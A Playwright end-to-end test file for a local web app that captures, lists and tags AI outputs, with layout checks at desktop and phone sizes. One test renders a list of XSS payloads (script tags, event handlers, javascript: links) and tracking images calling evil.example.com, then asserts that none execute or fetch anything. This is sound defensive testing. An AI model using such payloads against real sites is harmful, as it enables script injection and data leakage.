"""Real browser: capture -> list -> detail -> tag inline -> tag page; hostile outputs execute nothing."""

from __future__ import annotations

import re
import subprocess
import sys

from .conftest import ROOT, screenshot, wait_for_app

XSS_PAYLOADS = [
    '<script>window.__xss = 1</script>',
    '<img src=x onerror="window.__xss = 2">',
    '<svg onload="window.__xss = 3"></svg>',
    '[click me](javascript:window.__xss=4)',
    '<a href="javascript:window.__xss=5">link</a>',
    '<iframe src="javascript:window.__xss=6"></iframe>',
    '![tracker](https://evil.example.com/leak.png?secret=abc)',
    '<img src="https://evil.example.com/pixel.gif">',
    '<div style="background:url(https://evil.example.com/bg.png)">styled</div>',
    '<math><mi xlink:href="javascript:window.__xss=7">m</mi></math>',
    '"><script>window.__xss=8</script>',
    '```html\n<script>window.__xss=9</script>\n```',
    '<details open ontoggle="window.__xss=10">d</details>',
    '<body onload="window.__xss=11">',
    '<object data="javascript:window.__xss=12"></object>',
]


def capture_via_cli(db_path, text: str, *extra: str) -> None:
    subprocess.run(
        [sys.executable, str(ROOT / 'main.py'), 'capture', '--db', str(db_path), '--output', text, *extra],
        check=True,
        capture_output=True,
        timeout=120,
    )


def test_capture_list_detail_tag_flow(start_app, page, tmp_path) -> None:
    app = start_app()
    page.goto(app.url + '/capture')
    wait_for_app(page)
    form = page.locator('.q-page-container')  # the page's form, not the quick-capture dialog's
    form.get_by_label('Prompt (optional)').fill('How do I make SQLite faster for many writers?')
    body = form.get_by_label('Output (Markdown)')
    body.fill('# Use WAL mode\n\nTurn on `journal_mode=wal` and a busy timeout.')
    body.press('Control+Enter')
    page.get_by_text('Captured “Use WAL mode”').wait_for()
    screenshot(page, 'desktop-capture')

    page.goto(app.url + '/outputs')
    wait_for_app(page)
    page.get_by_role('link', name='Use WAL mode').click()
    page.wait_for_url(re.compile(r'.*/outputs/\d+$'))
    page.get_by_text('Turn on').wait_for()
    screenshot(page, 'desktop-output-detail')

    page.get_by_role('button', name='Add tags').click()
    box = page.get_by_placeholder('Search tags or type a new name')
    box.fill('sqlite-tips')
    box.press('Enter')
    page.get_by_label('tag sqlite-tips').click()
    page.wait_for_url(re.compile(r'.*/tags/\d+$'))
    page.get_by_role('link', name='Use WAL mode').wait_for()
    screenshot(page, 'desktop-tag-page')
    assert not page.recorder.remote_requests


def test_hostile_output_executes_nothing_and_fetches_nothing(start_app, page, tmp_path) -> None:
    db = tmp_path / 'xss.db'
    capture_via_cli(db, 'Payloads\n\n' + '\n\n'.join(XSS_PAYLOADS), '--title', 'XSS corpus')
    app = start_app(db_path=db)
    page.goto(app.url + '/outputs/1')
    wait_for_app(page)
    page.get_by_text('styled', exact=False).first.wait_for()
    page.wait_for_timeout(1000)
    # click every link in the rendered output: javascript: URLs must do nothing
    for link in page.locator('.oh-md a').all():
        href = link.get_attribute('href') or ''
        if href.startswith('#') or href == '':
            link.click()
    page.wait_for_timeout(500)
    assert page.evaluate('window.__xss') is None
    assert page.recorder.dialogs == []
    assert not [u for u in page.recorder.remote_requests if 'evil.example.com' in u]
    # the remote image is offered as a link, not loaded
    assert page.locator('.oh-md a.oh-remote-image').count() >= 1
    assert page.locator('.oh-md img[src*="evil"]').count() == 0


def write_conversation(db_path, title: str, turns: list[tuple[str, str]]) -> None:
    """Store a conversation through the data layer (before the app starts on that file)."""
    from app.data import conversations
    from app.data import db as dbmod

    dbmod.connect(db_path)
    try:
        conv = conversations.create_conversation(title)
        for role, text in turns:
            conversations.add_message(conv, role, text)
    finally:
        dbmod.close()


def test_home_cards_with_many_tags_fit_a_desktop(start_app, page, tmp_path) -> None:
    db = tmp_path / 'home.db'
    for i in range(3):
        tags = [
            arg for t in ('performance', 'postgresql', 'to-review', 'refactoring') for arg in ('--tag', t)
        ]
        capture_via_cli(db, f'Why is the events query slow number {i}? (EXPLAIN ANALYZE)', *tags)
    app = start_app(db_path=db)
    page.set_viewport_size({'width': 1280, 'height': 900})
    page.goto(app.url + '/')
    wait_for_app(page)
    page.wait_for_timeout(400)
    width = page.evaluate('document.documentElement.scrollWidth')
    assert width <= 1280 + 1, f'the home page scrolls sideways ({width}px wide)'
    capture_via_cli(db, 'A fairly long first line that becomes the title of this capture ' * 3, '--tag', 'x')
    page.goto(app.url + '/outputs')
    wait_for_app(page)
    page.wait_for_timeout(400)
    heights = page.eval_on_selector_all('.border-b.border-slate-100', 'rows => rows.map(r => r.offsetHeight)')
    assert len(heights) == 4 and max(heights) < 56, f'list rows wrap onto a second line: {heights}'


def test_key_pages_at_phone_size(start_app, phone_page, tmp_path) -> None:
    db = tmp_path / 'phone.db'
    capture_via_cli(
        db,
        '# Phone check\n\nA table:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint("hi")\n```',
        '--tag',
        'mobile',
    )
    wide_table = '| ' + ' | '.join(f'column {i}' for i in range(12)) + ' |\n' + '|---' * 12 + '|\n'
    wide_table += '| ' + ' | '.join(f'value-{i}-of-a-long-row' for i in range(12)) + ' |\n'
    write_conversation(db, 'Phone table chat', [('user', 'A wide table please'), ('assistant', wide_table)])
    app = start_app(db_path=db)
    for path, name in (
        ('/', 'home'),
        ('/outputs', 'outputs'),
        ('/outputs/1', 'output-detail'),
        ('/capture', 'capture'),
        ('/conversations/1', 'conversation-with-table'),  # the table scrolls in its box, the page does not
    ):
        phone_page.goto(app.url + path)
        wait_for_app(phone_page)
        phone_page.wait_for_timeout(400)
        width = phone_page.evaluate('document.documentElement.scrollWidth')
        assert width <= 360 + 1, f'{path} scrolls sideways on a phone ({width}px wide)'
        screenshot(phone_page, f'phone-{name}')
    header = phone_page.locator('.q-header').bounding_box()
    assert header['height'] < 80, f'the phone header wraps onto two rows ({header["height"]}px)'

    # the "Captured …" toast with Open / Undo is readable: as wide as the screen allows, not a thin column
    phone_page.goto(app.url + '/capture')
    wait_for_app(phone_page)
    phone_page.locator('.q-page-container').get_by_label('Output (Markdown)').fill(
        'A fairly long first line that becomes the title here\n\nx'
    )
    phone_page.keyboard.press('Control+Enter')
    toast = phone_page.locator('.q-card[role=status]')
    toast.wait_for()
    box = toast.bounding_box()
    assert box['width'] > 300 and box['height'] < 120, f'the toast is squeezed: {box}'


def test_slash_opens_the_palette_and_see_all_results_searches(start_app, page, tmp_path) -> None:
    db = tmp_path / 'keys.db'
    capture_via_cli(db, 'Keyboard shortcut check')
    app = start_app(db_path=db)
    page.goto(app.url + '/outputs')
    wait_for_app(page)
    page.locator('body').click()  # focus the page, not an input
    page.keyboard.press('/')
    page.keyboard.type('keyboard')  # the keys land in the palette's box at once
    assert page.url.endswith('/outputs'), 'pressing / left the page instead of opening the palette'
    page.get_by_text('Keyboard shortcut check').first.wait_for()
    # the row, once it carries the whole word (it is redrawn as the query grows)
    page.locator('a', has_text=re.compile(r'See all results for .keyboard')).first.click()
    page.wait_for_url(re.compile(r'/search\?q=keyboard'))


def test_the_welcome_button_puts_the_cursor_in_the_capture_form_below(start_app, page) -> None:
    app = start_app()
    page.goto(app.url + '/')
    wait_for_app(page)
    page.get_by_role('button', name='Capture your first output').click()
    page.wait_for_function("document.activeElement && document.activeElement.tagName === 'TEXTAREA'")
    assert page.evaluate("document.activeElement.closest('label').innerText").startswith('Output (Markdown)')
    assert page.url.rstrip('/') == app.url  # it stayed on Home
    page.keyboard.type('typed straight into the form')
    assert page.evaluate('document.activeElement.value') == 'typed straight into the form'
